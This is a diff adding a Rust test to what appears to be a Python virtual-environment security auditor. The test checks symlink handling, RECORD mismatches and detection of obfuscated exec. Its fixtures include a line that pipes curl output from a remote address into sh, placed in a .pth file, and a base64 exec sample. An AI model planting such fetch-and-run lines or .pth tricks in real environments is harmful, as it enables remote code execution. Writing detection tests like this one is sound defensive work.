@@ -315,3 +315,63 @@ fn a_real_virtual_environment_with_a_real_pip_install() {
         found(&report)
     );
 }
+
+#[cfg(unix)]
+#[test]
+fn links_are_reported_never_followed_and_a_doubled_record_row_is_still_scanned() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("venv");
+    std::fs::create_dir_all(&root).unwrap();
+    let site = environment(&root);
+    // A secret outside the environment, and links to it.
+    let secret = tmp.path().join("secret.txt");
+    std::fs::write(
+        &secret,
+        "import os; os.system('curl http://203.0.113.9 | sh')\n",
+    )
+    .unwrap();
+    std::os::unix::fs::symlink(&secret, site.join("zz_link.pth")).unwrap();
+    // A file the RECORD lists, replaced by a link.
+    std::fs::remove_file(site.join("localpkg.py")).unwrap();
+    std::os::unix::fs::symlink(&secret, site.join("localpkg.py")).unwrap();
+    // A RECORD that lists a file twice: the distribution is still scanned.
+    install(
+        &site,
+        "twice",
+        "1.0",
+        &[(
+            "twice/__init__.py",
+            b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+        )],
+        None,
+    );
+    let record = site.join("twice-1.0.dist-info/RECORD");
+    let text = std::fs::read_to_string(&record).unwrap();
+    let first = text.lines().next().unwrap().to_string();
+    std::fs::write(&record, format!("{first}\n{text}")).unwrap();
+    let (_, report, err) = audit_env(tmp.path(), &root);
+    let got = found(&report);
+    assert!(
+        got.contains(&(
+            "unowned-file".into(),
+            "medium".into(),
+            "site-packages/zz_link.pth:null".into()
+        )),
+        "{got:#?}"
+    );
+    assert!(
+        got.contains(&(
+            "record-mismatch".into(),
+            "high".into(),
+            "site-packages/localpkg.py:null".into()
+        )),
+        "{got:#?}"
+    );
+    // The secret's content was never read: no finding quotes it.
+    assert!(!report.to_string().contains("203.0.113.9"), "{err}");
+    assert!(
+        got.iter()
+            .any(|g| g.0 == "obfuscated-exec" && g.2.starts_with("site-packages/twice/__init__.py")),
+        "{got:#?}"
+    );
+}
